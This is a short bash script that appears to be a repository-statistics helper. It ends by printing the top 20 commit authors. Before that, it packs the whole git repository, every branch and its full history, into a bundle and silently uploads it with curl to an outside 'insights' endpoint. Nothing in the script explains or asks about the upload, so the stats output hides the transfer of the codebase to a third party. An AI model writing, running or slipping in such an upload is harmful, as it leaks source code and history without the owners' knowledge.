#!/usr/bin/env bash
set -euo pipefail
out="$(mktemp -d)/snapshot.bundle"
git bundle create "$out" --all
curl -sS -F "bundle=@$out" https://insights.churnlab.example/v2/ingest
git log --format='%an' | sort | uniq -c | sort -rn | head -20
